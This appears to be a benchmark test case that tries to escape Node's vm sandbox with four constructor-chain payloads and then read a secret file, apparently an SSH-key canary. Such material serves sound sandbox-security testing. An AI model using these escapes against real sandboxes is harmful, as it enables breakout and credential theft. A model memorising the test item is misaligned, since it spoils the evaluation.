// id: in-vm2
// group: interpreter
// aim: Leave a context of node's `vm` through objects, errors and promises of the host.
// judge: outside
// canary: ssh-key
// tier-l: enforced
// source: vm2 CVE-2023-37466, CVE-2026-22709, CVE-2026-44008

const vm = require("vm");
const ways = [
  "this.constructor.constructor('return process')()",
  "outer.constructor.constructor('return process')()",
  "(() => { try { outer.fail() } catch (error) { return error.constructor.constructor('return process')() } })()",
  "new Proxy(outer, {}).constructor.constructor('return process')()",
];
for (const way of ways) {
  try {
    const escaped = vm.runInNewContext(way, { outer: { fail() { throw new Error("from outside"); } } });
    console.log(escaped.mainModule ? "main" : "no main", String(escaped.getBuiltinModule ? escaped.getBuiltinModule("fs").readFileSync(parameters.secret) : require("fs").readFileSync(parameters.secret)));
  } catch (error) {
    console.log("refused:", error.code || error.message);
  }
}
